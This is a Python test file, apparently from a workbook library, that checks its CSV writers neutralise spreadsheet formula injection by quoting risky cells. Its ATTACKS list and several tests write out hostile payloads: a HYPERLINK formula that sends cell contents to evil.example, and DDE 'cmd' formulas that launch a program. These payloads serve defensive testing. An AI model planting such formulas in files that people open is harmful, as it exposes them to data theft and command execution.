"""Cells a spreadsheet would run as formulas are made inert, in every CSV the workbook writes."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from conftest import dfe_folder
from workbook.core import paths
from workbook.core.spreadsheet_safety import neutralise, neutralise_frame, write_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(attack):
    assert neutralise(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", ["-5", "+3.2", "-1,200", "12%", "Child J", "a=b", "", None, -4, 2.5]
)
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise(value) == value


def test_a_frame_is_neutralised_cell_by_cell_and_in_its_header():
    frame = pd.DataFrame(
        {"=id": ["=1+1", "F2"], "n": [-3, 4], "text": pd.array(["@x", pd.NA], dtype="string")}
    )
    safe = neutralise_frame(frame)
    assert list(safe.columns) == ["'=id", "n", "text"]
    assert safe["'=id"].tolist() == ["'=1+1", "F2"]
    assert safe["n"].tolist() == [-3, 4]
    assert safe["text"].iloc[0] == "'@x" and pd.isna(safe["text"].iloc[1])
    assert frame.iloc[0, 0] == "=1+1"  # the caller's frame is not changed


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_write_csv_writes_no_cell_that_starts_a_formula():
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"text": ATTACKS}), buffer)
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in _cells(buffer.getvalue())
    )


def test_workbook_code_output_is_neutralised(tmp_path):
    """Writer 1: `workbook code` (coding.coder.code_file)."""
    from workbook.run.cli import main

    source = tmp_path / "findings.csv"
    pd.DataFrame(
        {
            "id": ['=HYPERLINK("http://x")', "+F2"],
            "text": ["=1+1 neglect was not recognised", "@SUM(A1) the voice of the child"],
        }
    ).to_csv(source, index=False)
    assert main(["code", str(source), "--out", str(tmp_path / "coded.csv")]) == 0
    cells = _cells((tmp_path / "coded.csv").read_text(encoding="utf-8"))
    assert '\'=HYPERLINK("http://x")' in cells and "'+F2" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_dfe_store_is_neutralised(tmp_path):
    """Writer 2: `workbook indicators import` (national.store.import_folder)."""

    from workbook.national.store import import_folder, load_store

    folder = dfe_folder(tmp_path, la_name='=HYPERLINK("http://x")')
    import_folder(folder, tmp_path / "store")
    text = (tmp_path / "store" / "figures.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and not any(c.startswith("=") for c in _cells(text))
    load_store.cache_clear()
    stored = load_store(tmp_path / "store")
    assert stored.figures["value"].notna().any()  # numbers read back as numbers
    load_store.cache_clear()


def test_indicators_csv_is_neutralised(tmp_path, capsys, monkeypatch):
    """Writer 3: `workbook indicators ... --format csv` (run.cli). The table's cells come from
    DfE files and the catalogue; one is made hostile here to see that the writer quotes it."""

    from workbook.national import indicators
    from workbook.run.cli import main

    real = indicators.indicator_table

    def with_attack(*args, **kwargs):
        table = real(*args, **kwargs)
        table.loc[0, "name"] = "=cmd|' /C calc'!A0"
        return table

    monkeypatch.setattr(indicators, "indicator_table", with_attack)
    assert (
        main(
            [
                "indicators",
                "841",
                "2019-20",
                "--dfe-dir",
                str(dfe_folder(tmp_path)),
                "--format",
                "csv",
            ]
        )
        == 0
    )
    cells = _cells(capsys.readouterr().out)
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_every_writer_in_the_library_goes_through_the_neutraliser():
    """No CSV or Excel writer bypasses spreadsheet_safety: a new one must use it, and get a
    test above."""
    library = paths.project_root() / "lib" / "workbook"
    writers = {
        path.relative_to(library).as_posix()
        for path in library.rglob("*.py")
        if re.search(
            r"\.to_csv\(|\.to_excel\(|csv\.writer|DictWriter|openpyxl\.Workbook|"
            r"ExcelWriter|\bWorkbook\(\)|xlsxwriter\.Workbook",
            path.read_text(encoding="utf-8"),
        )
    }
    # The Excel template and the appendix workbook pass every text cell through `neutralise`
    # (tests/functional/test_onboarding.py and tests/unit/render/test_appendix.py). The coding
    # review's write-back writes only theme ids, checked against the codebook (never a formula),
    # into the analyst's own findings table and leaves every other cell as it was
    # (tests/unit/coding/test_coding_review.py).
    assert writers == {
        "core/spreadsheet_safety.py",
        "onboarding/template.py",
        "render/appendix.py",
        "lab/writeback.py",
    }
